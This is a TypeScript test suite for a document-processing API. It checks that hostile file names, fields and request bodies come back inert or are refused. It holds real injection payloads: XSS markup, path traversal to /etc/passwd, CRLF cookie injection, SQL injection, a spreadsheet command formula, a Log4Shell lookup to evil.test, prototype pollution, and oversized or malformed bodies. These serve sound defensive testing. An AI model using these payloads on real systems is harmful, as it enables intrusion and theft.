/** Markup and tricks in names, values and texts come back as they are, and in no form that a browser would run. */
import { createHash } from 'node:crypto';
import { type ApiUnderTest, pngBytes, startApi } from '../api/api-under-test';

const MARKUP = '<img src=x onerror=alert(1)><script>alert(2)</script>';
const NAMES: readonly string[] = [
  `${MARKUP}.png`,
  '"; filename="other.html',
  '../../../etc/passwd',
  '..\\..\\windows\\system.ini',
  'a\r\nSet-Cookie: treadle_session=stolen\r\n.png',
  '\u202egnp.exe',
  `{{constructor.constructor('alert(1)')()}}`,
  "'; drop table runs; --",
  '=cmd|calc!A1',
  '%s%n%x${jndi:ldap://evil.test/a}',
  '가'.repeat(500),
  '.',
  '',
];

let api: ApiUnderTest;
beforeAll(async () => {
  api = await startApi();
});
afterAll(() => api.close());

const isInert = (response: Response): void => {
  expect(response.headers.get('content-type')).toMatch(/^application\/(problem\+)?json/);
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  expect(response.headers.get('set-cookie')).toBeNull();
};

it.each(NAMES)('a file named %j is a name and nothing else', async (name) => {
  const response = await api.upload(pngBytes(), { name });
  expect(response.status).toBe(202);
  isInert(response);
  const { chain_id: runId } = (await response.json()) as { chain_id: string };
  const shown = await api.request(`/api/v1/runs/${runId}`);
  isInert(shown);
  const run = (await shown.json()) as { input: { name: string } };

  expect(run.input.name).not.toMatch(/[\u0000-\u001f\u007f/\\\u202e]/);
  expect(run.input.name.length).toBeLessThanOrEqual(255);
  for (const path of ['/api/v1/runs', `/api/v1/runs?name=${encodeURIComponent(MARKUP)}`, `/status/${runId}`]) {
    isInert(await api.request(path));
  }
});

it('a result full of markup is JSON', async () => {
  const run = await api.submitRun();
  const result = { text: MARKUP, fields: [{ name: MARKUP, value: MARKUP, __proto__: { admin: true } }] };
  await api.deps.progress.completed({
    runId: run.id,
    runAttempt: 1,
    result,
    costUsd: null,
    cacheTtlSeconds: 60,
  });
  for (const path of ['', '/result', '/manifest', '/events']) {
    const response = await api.request(`/api/v1/runs/${run.id}${path}`);
    expect(response.status).toBe(200);
    isInert(response);
  }
  const shown = (await (await api.request(`/api/v1/runs/${run.id}/result`)).json()) as { text: string };
  expect(shown.text).toBe(MARKUP);
});

it('a problem repeats what was asked for as JSON', async () => {
  for (const path of [
    `/${encodeURIComponent(MARKUP)}`,
    `/api/v1/runs/${encodeURIComponent(MARKUP)}`,
    `/api/v1/runs?status=${MARKUP}`,
  ]) {
    const response = await api.request(path, { headers: { accept: 'text/html', 'x-request-id': MARKUP } });
    expect(response.headers.get('x-request-id')).not.toContain('<');
    if (path.startsWith('/api')) isInert(response);
  }
});

it.each(['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'application/pdf', 'text/plain'])(
  'a blob of %s is saved and never opened',
  async (mediaType) => {
    const { token: _token, ...owner } = await api.deps.identity.createPrincipal({
      name: mediaType,
      projectId: api.projectId,
      role: 'viewer',
    });
    const bytes = Buffer.from(`${MARKUP} ${mediaType}`);
    const accept = () => mediaType;
    const blob = await api.deps.blobStore.put(
      (async function* () {
        yield bytes;
      })(),
      { bytesMax: 1_000, accept },
    );
    await api.deps.blobs.hold(blob, { projectId: api.projectId, ownerId: owner.id });
    expect(blob.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
    const response = await api.request(`/api/v1/blobs/${blob.sha256}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="[0-9a-f]+"$/);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
  },
);

const DEEP = '['.repeat(50_000) + ']'.repeat(50_000);

it.each([
  ['nested too deep', `{"blob":{"sha256":"x"},"options":${DEEP}}`],
  ['with a NUL', '{"blob":{"sha256":"x"},"name":"a\\u0000b"}'],
  ['with half a surrogate pair', '{"blob":{"sha256":"x"},"options":{"field_schema":{"a":"\\ud800"}}}'],
  ['that poisons prototypes', '{"__proto__":{"role":"admin"},"blob":{"sha256":"x"}}'],
  ['that is no JSON', "{'a':1}"],
  ['that is empty', ''],
  ['that is null', 'null'],
  ['that is a number beyond numbers', '1e999'],
])('a JSON body %s is refused as the caller’s mistake', async (_name, body) => {
  const response = await api.request('/api/v1/documents/runs', {
    method: 'POST',
    body,
    headers: { 'content-type': 'application/json' },
  });
  expect([400, 422]).toContain(response.status);
  isInert(response);
});

it.each([
  ['field_schema', DEEP.replace('[', '{"a":[').replace(/\]$/, ']}')],
  ['field_schema', '{"type":"object","properties":{"a":{"type":"string","pattern":"\\u0000"}}}'],
  ['options', DEEP],
  ['pages', '1\u0000'],
])('a form’s field %s with such content is refused as the caller’s mistake', async (name, value) => {
  const response = await api.upload(pngBytes(), { before: { [name]: value } });
  expect([400, 422]).toContain(response.status);
  isInert(response);
  expect(await api.temporaryFiles()).toEqual([]);
});

it('a body that is larger than JSON may be is refused by its size', async () => {
  const body = `{"name":"${'x'.repeat(1024 ** 2)}"}`;
  const response = await api.request('/api/v1/documents/runs', {
    method: 'POST',
    body,
    headers: { 'content-type': 'application/json' },
  });
  expect([response.status, ((await response.json()) as { code: string }).code]).toEqual([
    413,
    'REQUEST_BODY_TOO_LARGE',
  ]);
});

it('a form of a hundred thousand fields is refused after the first ones', async () => {
  const part = (n: number) => `--b\r\nContent-Disposition: form-data; name="name${n % 7}"\r\n\r\na\r\n`;
  const body = Array.from({ length: 100_000 }, (_, n) => part(n)).join('');
  const response = await api.request('/api/v1/documents/runs', {
    method: 'POST',
    body,
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
  });
  expect([400, 422]).toContain(response.status);
});

it.each([
  ['part headers without end', `--b\r\n${'X: a\r\n'.repeat(20_000)}`],
  ['a part without a name', '--b\r\nContent-Disposition: form-data\r\n\r\na\r\n--b--\r\n'],
  ['a file without a name of its field', '--b\r\nContent-Disposition: form-data; filename="a"\r\n\r\na\r\n--b--\r\n'],
  ['a part without a header', '--b\r\n\r\na\r\n--b--\r\n'],
  ['no parts', '--b--\r\n'],
  ['no end', '--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\na'],
  ['not a form at all', '{"a":1}'],
  [
    'a parameter that is cut',
    `--b\r\nContent-Disposition: form-data; name="${'n'.repeat(5_000)}"\r\n\r\na\r\n--b--\r\n`,
  ],
])('a form with %s is refused as the caller’s mistake', async (_name, body) => {
  const response = await api.request('/api/v1/documents/runs', {
    method: 'POST',
    body,
    headers: { 'content-type': 'multipart/form-data; boundary=b' },
  });
  expect([400, 413, 415, 422]).toContain(response.status);
  isInert(response);
  expect(await api.temporaryFiles()).toEqual([]);
});
